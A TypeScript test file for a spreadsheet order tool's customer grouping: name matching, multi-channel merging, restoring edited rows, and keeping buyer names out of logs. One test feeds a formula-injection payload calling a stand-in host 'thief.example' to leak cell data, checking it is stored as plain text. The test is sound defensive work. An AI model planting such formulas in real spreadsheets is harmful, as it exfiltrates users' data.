/** Customers: under whom orders are kept, and what the tab `Customers` says of them. */
import { type FailingShop, failingShop } from "../../support/failing-shop";

const IMPORT = '=IMPORTXML("https://thief.example/?"&A1,"//a")';

interface CustomerShop extends FailingShop {
  /** A buyer of this name orders one A; gives the PO. */
  readonly buyAs: (buyer: string) => string;
  readonly customerOf: (po: string) => string | undefined;
  readonly customer: (name: string) => Readonly<Record<string, string>> | undefined;
  readonly names: () => readonly (string | undefined)[];
}

function customerShop(type = "By name"): CustomerShop {
  const shop = failingShop();
  shop.switchOn({ "Organization Type": type });
  return {
    ...shop,
    buyAs: (buyer) => {
      const placed = shop.walmart.buyers.order(
        { lines: [{ sku: "A", quantity: 1 }], isForced: true, buyer },
        shop.clock.now(),
      );
      if (placed.kind === "refused") throw new Error(placed.reason);
      shop.clock.advance(60_000);
      return placed.purchaseOrderId;
    },
    customerOf: (po) => shop.order(po).Customer,
    customer: (name) => shop.rows("Customers").find((row) => row.Customer === name),
    names: () => shop.rows("Customers").map((row) => row.Customer),
  };
}

test("by name, each buyer is a customer, matched without case and blanks, and spelled as in the first order", () => {
  const shop = customerShop();
  const first = shop.buyAs("Ann  Lee ");
  const second = shop.buyAs("ANN LEE");
  const other = shop.buyAs("Bob Ray");
  shop.hours(1);
  const third = shop.buyAs(" ann lee");
  shop.hours(1);
  expect([first, second, third, other].map(shop.customerOf)).toEqual(["Ann Lee", "Ann Lee", "Ann Lee", "Bob Ray"]);
  expect([...shop.names()].sort()).toEqual(["Ann Lee", "Bob Ray"]);
  expect(shop.customer("Ann Lee")).toMatchObject({ Channel: "Walmart", Orders: "3" });
  expect(shop.customer("Ann Lee")?.["First order"]).not.toBe(shop.customer("Ann Lee")?.["Last order"]);
  expect(shop.customer("Bob Ray")).toMatchObject({ Orders: "1" });
  expect(shop.customer("Bob Ray")?.["First order"]).toBe(shop.customer("Bob Ray")?.["Last order"]);
});

test("a customer whom another channel brought is the same one, and shows both channels", () => {
  const shop = customerShop();
  shop.hands.fill(
    "Orders",
    ["PO", "Channel", "SKU", "Qty", "Order status", "Customer"],
    [["EB-1", "eBay", "A", "1", "New", "Ann Lee"]],
  );
  shop.hours(1);
  const po = shop.buyAs("ann lee");
  shop.hours(1);
  expect(shop.customerOf(po)).toBe("Ann Lee");
  expect(shop.order("EB-1").Customer).toBe("Ann Lee");
  expect(shop.names()).toEqual(["Ann Lee"]);
  expect(shop.customer("Ann Lee")).toMatchObject({ Orders: "2", Channel: "eBay, Walmart" });
});

test("switching changes new orders only: refreshes, restored rows and a lost ledger leave the others as they are", () => {
  const shop = customerShop("Single customer Walmart");
  const single = shop.buyAs("Ann Lee");
  shop.hours(1);
  shop.switchOn({ "Organization Type": "By name" });
  const named = shop.buyAs("Ann Lee");
  shop.hours(1);
  const expected = ["Walmart", "Ann Lee"];
  expect([single, named].map(shop.customerOf)).toEqual(expected);
  // Walmart says something new of both.
  for (const po of [single, named])
    shop.walmart.sellerCenter.ship(po, { carrier: "UPS", trackingNumber: `1Z${po}` }, shop.clock.now());
  shop.switchOn({ "Organization Type": "Single customer Walmart" });
  shop.hours(1);
  expect([single, named].map(shop.customerOf)).toEqual(expected);
  expect(shop.order(named)["Walmart status"]).toBe("Shipped");
  for (const po of [single, named]) shop.hands.deleteRow("Orders", "PO", po);
  shop.hours(1);
  shop.world.run("restoreRemovedOrders");
  expect([single, named].map(shop.customerOf)).toEqual(expected);
  shop.people.clear("_Ledger", "A2:C999");
  shop.hours(2);
  expect([single, named].map(shop.customerOf)).toEqual(expected);
});

test.each([
  ["a formula", IMPORT, IMPORT],
  ["a number", "007", "007"],
  ["a date", "1/2", "1/2"],
  ["true", "TRUE", "TRUE"],
  ["an error", "#REF!", "#REF!"],
  ["several lines", "Ann\nLee\u00a0 Jr", "Ann Lee Jr"],
  ["nothing", "  ", "Walmart"],
  ["very long", "Long ".repeat(2_000), `${"Long ".repeat(40).trimEnd().slice(0, 199)}…`],
])("a buyer's name that reads like %s is a text, one customer, and written once", (_, buyer, shown) => {
  const shop = customerShop();
  const pos = [shop.buyAs(buyer), shop.buyAs(buyer)];
  shop.hours(1);
  const written = shop.book.snapshot();
  expect(pos.map(shop.customerOf)).toEqual([shown, shown]);
  expect(shop.names()).toEqual([shown]);
  expect(shop.customer(shown)).toMatchObject({ Orders: "2" });
  shop.hours(1);
  const cells = (snapshot: string) => JSON.stringify(JSON.parse(snapshot).sheets);
  expect(cells(shop.book.snapshot())).toBe(cells(written));
});

test("a name that was typed over, or sorted alone, stands at its own order again after the next run", () => {
  const shop = customerShop();
  const [ann, bob] = [shop.buyAs("Ann Lee"), shop.buyAs("Bob Ray")];
  shop.hours(1);
  shop.hands.type("Orders", "PO", ann, "Customer", "Bob Ray");
  shop.hands.type("Orders", "PO", bob, "Customer", "");
  shop.hours(1);
  expect([ann, bob].map(shop.customerOf)).toEqual(["Ann Lee", "Bob Ray"]);
  expect(["Ann Lee", "Bob Ray"].map((name) => shop.customer(name)?.Orders)).toEqual(["1", "1"]);
});

test("rows of Customers that were deleted, or whose names were sorted alone, say the truth after the next run", () => {
  const shop = customerShop();
  const [first] = [shop.buyAs("Ann Lee"), shop.buyAs("Bob Ray"), shop.buyAs("Cy Fox"), shop.buyAs("Bob Ray")];
  shop.hours(1);
  const before = [...shop.rows("Customers")].sort((one, other) =>
    (one.Customer ?? "") < (other.Customer ?? "") ? -1 : 1,
  );
  shop.hands.deleteRow("Customers", "Customer", "Cy Fox");
  shop.hands.overwrite("Customers", "Customer", ["Bob Ray", "Ann Lee"]);
  shop.hours(1);
  const after = [...shop.rows("Customers")].sort((one, other) =>
    (one.Customer ?? "") < (other.Customer ?? "") ? -1 : 1,
  );
  expect(after).toEqual(before);
  expect(shop.order(first).Customer).toBe("Ann Lee");
});

test("a buyer's name stands in Orders and Customers alone, and nobody can guess it from the ledger", () => {
  const shop = customerShop();
  const name = "Quirina Xylander";
  const pos = Array.from({ length: 40 }, (_, index) => shop.buyAs(index === 0 ? name : `Buyer ${index}`));
  shop.hours(2);
  shop.hands.deleteRow("Orders", "PO", pos[0] ?? "");
  shop.hours(1);
  for (const tab of ["Log", "_Ledger"])
    expect(JSON.stringify(shop.book.view.rows(tab)).includes("Xylander")).toBe(false);
  // What is kept of a name has about ten bits, so that it fits thousands of names.
  const memories = shop.book.view.rows("_Ledger").filter(([key]) => key?.startsWith("order:"));
  const kept = memories.map((row) => JSON.parse(row.at(-1) ?? "{}").customer as number | undefined);
  expect(kept.filter((one) => one !== undefined)).toHaveLength(40);
  expect(kept.every((one) => one !== undefined && one < 1_000)).toBe(true);
});
